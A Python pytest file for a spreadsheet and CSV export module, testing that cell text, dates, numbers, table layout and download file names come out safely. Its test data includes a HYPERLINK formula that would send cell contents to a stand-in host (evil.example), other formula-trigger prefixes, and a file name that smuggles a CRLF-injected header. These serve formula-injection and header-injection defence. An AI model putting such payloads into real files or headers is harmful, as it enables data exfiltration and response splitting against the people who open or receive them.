"""Files for spreadsheets: a workbook that openpyxl reads, texts that stay texts, CSV that is safe to open."""

from __future__ import annotations

import csv
import datetime
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from servicegraph import Catalogue
from servicegraph.reports.workbook import (
    Sheet,
    answer_sheet,
    answer_workbook,
    csv_for_people,
    day_cell,
    plain_csv,
    saved_as,
    workbook,
)

LURE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
DAY = datetime.date(2026, 11, 28)
ADDRESS = "https://example.org/id/service/night-chat"


def opened(content: bytes) -> Workbook:
    return load_workbook(io.BytesIO(content))


@pytest.mark.parametrize(
    "value", [LURE, "+1", "-1+2", "@SUM(A1)", "{=A1}", ADDRESS, "mailto:a@b.fi", "0123", "internal:A1"]
)
def test_text_stays_text_in_a_workbook(value: str) -> None:
    page = opened(workbook([Sheet("A", ["Head"], [[value]])], [("Note", value)], "en", DAY))["A"]
    assert page["A2"].value == value
    assert page["A2"].data_type == "s"
    assert page["A2"].hyperlink is None


def test_numbers_are_numbers_and_what_is_not_there_is_empty() -> None:
    page = opened(workbook([Sheet("A", ["a", "b", "c"], [[-3, 0.25, None]])], [], "en", DAY))["A"]
    assert [cell.value for cell in page[2]] == [-3, 0.25, None]


def test_days_are_days_and_what_is_none_stays_text() -> None:
    cells = [day_cell(value) for value in ("2026-11-28", "2026-13-45", "2026", "soon", "", "1899-05-01")]
    assert cells == [DAY, "2026-13-45", "2026", "soon", None, datetime.date(1899, 5, 1)]
    page = opened(workbook([Sheet("A", list("abcdef"), [cells])], [], "en", DAY))["A"]
    assert [cell.value for cell in page[2]] == [
        *(datetime.datetime(2026, 11, 28), "2026-13-45", "2026", "soon", None),
        "1899-05-01",  # before the first day that a spreadsheet counts
    ]
    assert page["A2"].is_date
    assert csv_for_people(Sheet("A", ["a"], [[DAY]])).decode("utf-8-sig").split() == ["a", "2026-11-28"]


def test_note_stands_alone_in_the_last_row_of_csv() -> None:
    content = csv_for_people(Sheet("A", ["a", "b"], [[1, 2]]), "Cut.").decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(content))) == [["a", "b"], ["1", "2"], ["Cut."]]


def test_table_has_a_frozen_head_filters_and_widths_that_fit() -> None:
    page = opened(workbook([Sheet("A", ["Name", "n"], [["x" * 200, 1], ["short", 2]])], [], "en", DAY))["A"]
    assert page.freeze_panes == "A2"
    assert [table.ref for table in page.tables.values()] == ["A1:B3"]
    assert page.column_dimensions["A"].width > page.column_dimensions["B"].width
    assert page.column_dimensions["A"].width <= 62


def test_heads_that_are_alike_are_told_apart() -> None:
    page = opened(workbook([Sheet("A", ["Name", "name", "", "Name"], [["1", "2", "3", "4"]])], [], "en", DAY))["A"]
    heads = [cell.value for cell in page[1]]
    assert len({str(head).casefold() for head in heads}) == 4


def test_sheet_of_information_stands_last_in_the_language_asked_for() -> None:
    sheets = [Sheet("Aukot", ["a"], [])]
    assert opened(workbook(sheets, [("Kysymys", "Mitä?"), ("Tyhjä", "")], "fi", DAY)).sheetnames == ["Aukot", "Tietoja"]
    page = opened(workbook(sheets, [("Kysymys", "Mitä?"), ("Tyhjä", "")], "sv", DAY))["Information"]
    assert [[cell.value for cell in row] for row in page.rows] == [["Kysymys", "Mitä?"]]


def test_many_rows_are_written_too() -> None:
    page = opened(workbook([Sheet("A", ["n"], [[number] for number in range(10_050)])], [], "en", DAY))["A"]
    assert page.max_row == 10_051
    assert page["A10051"].value == 10_049
    assert page.freeze_panes == "A2"


@pytest.fixture(scope="module")
def little() -> Catalogue:
    return Catalogue.load(Path(__file__).parents[1] / "data" / "small")


@given(st.text(max_size=60), st.text(max_size=60), st.text())
def test_any_names_and_texts_make_a_workbook_that_can_be_read(name: str, other: str, value: str) -> None:
    content = workbook(
        [Sheet(name, [other, other], [[value, value]]), Sheet(name, [value], [])], [(name, value)], "sv", DAY
    )
    assert len(opened(content).sheetnames) == 3


@pytest.mark.parametrize(
    ("value", "expected"),
    [(LURE, f"'{LURE}"), ("-1", "'-1"), (-1, "-1"), ("+a", "'+a"), ("@a", "'@a"), ("\ta", "'\ta"), ("a=b", "a=b")],
)
def test_csv_for_people_runs_nothing_and_csv_for_programs_changes_nothing(value: str | int, expected: str) -> None:
    sheet = Sheet("A", ["Otsikko"], [[value, None]])
    content = csv_for_people(sheet)
    assert content.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1] == [expected, ""]
    plain = plain_csv(sheet)
    assert not plain.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(plain.decode())))[1] == [str(value), ""]


def test_answer_has_names_beside_iris_and_says_what_it_is(little: Catalogue) -> None:
    answer = little.query("interfaces-without-rules", {"chain": "package:youth"})
    book = opened(answer_workbook(answer, little, "fi"))
    page = book.worksheets[0]
    heads = [cell.value for cell in page[1]]
    assert len(heads) == 2 * len(answer.columns) + 1
    assert str(heads[1]).endswith("(IRI)")
    assert page.max_row == 1 + len(answer.rows)
    assert page["B2"].value == "https://example.org/id/package/youth"
    told = {str(row[0].value): row[1].value for row in book["Tietoja"].rows}
    assert told["Kokonaisuus"] == "package:youth"
    assert told["Luettelon tila"] == little.state
    assert {"Kysymys", "Lähde", "Tehty"} <= told.keys()


def test_answer_without_rows_is_a_file_with_heads(little: Catalogue) -> None:
    answer = little.query("interfaces-without-rules", {"chain": "package:nowhere"})
    assert opened(answer_workbook(answer, little, "en")).worksheets[0].max_row == 1
    assert len(csv_for_people(answer_sheet(answer, little, "en")).splitlines()) == 1


def test_file_is_named_so_that_every_system_takes_it() -> None:
    assert saved_as('Käyttö: äö/"\r\nX-Evil: 1', DAY, "xlsx") == {
        "Content-Disposition": 'attachment; filename="kaytto-ao-x-evil-1-2026-11-28.xlsx"'
    }
    assert "servicegraph-" in saved_as("→", DAY, "csv")["Content-Disposition"]
